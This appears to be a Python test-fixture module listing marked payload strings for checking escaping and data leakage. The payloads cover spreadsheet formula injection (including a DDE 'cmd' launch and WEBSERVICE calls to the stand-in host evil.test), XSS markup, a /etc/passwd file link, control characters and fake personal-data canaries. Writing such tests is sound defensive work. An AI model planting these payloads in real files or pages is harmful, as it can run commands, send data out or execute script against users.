"""Texts that a program would take for a formula, for markup, or choke on; and particulars of persons that must not travel."""

from __future__ import annotations

MARK = "zz9"  # in every payload, so that it is found wherever it goes
FORMULAS = (
    f"=1+1+{MARK}",
    f"=cmd|' /C calc'!{MARK}",
    f'=HYPERLINK("http://evil.test/{MARK}","x")',
    f"+1+{MARK}",
    f"-1+{MARK}",
    f"@SUM({MARK})",
    f"\t=1+{MARK}",
    f"\r=1+{MARK}",
    f"{{=1+{MARK}}}",
    f'=WEBSERVICE("http://evil.test/{MARK}")',
    f"=DDE({MARK})",
    f"＝1+{MARK}",
    f"http://evil.test/{MARK}",
    f"mailto:x@evil.test?{MARK}",
    f"internal:'Sheet'!A1{MARK}",
    f"external:\\\\evil\\{MARK}",
    f"file:///etc/passwd#{MARK}",
    f'";=1+{MARK}',
    f"'=1+{MARK}",
    f"%3D1+{MARK}",
    f"  =1+{MARK}",
)
MARKUP = (
    f"<img src=x onerror=alert('{MARK}')>",
    f"<script>alert('{MARK}')</script>",
    f'"><svg onload=alert("{MARK}")>',
    f"javascript:alert('{MARK}')",
    f"</td></table><iframe src='//evil.test/{MARK}'>",
    f"{{{{ {MARK} }}}}{{% raw %}}",
    f"<!--{MARK}--><a href='javascript:alert(1)'>",
    f"&lt;b&gt;{MARK}&#x3c;i&#x3e;",
)
CONTROLS = (
    f"a\x00b{MARK}",
    f"a\x0b\x1f{MARK}",
    f"a\ud800{MARK}",
    f"a\u202e{MARK}",
    f"a\ufffe{MARK}",
    f"_x0000_{MARK}",
    f"]]>{MARK}",
)
TEXTS = (*FORMULAS, *MARKUP, *CONTROLS)
CANARIES = ("canary.person@mail.test", "021-77665544", "6222021234567890123", "欧阳金丝雀")
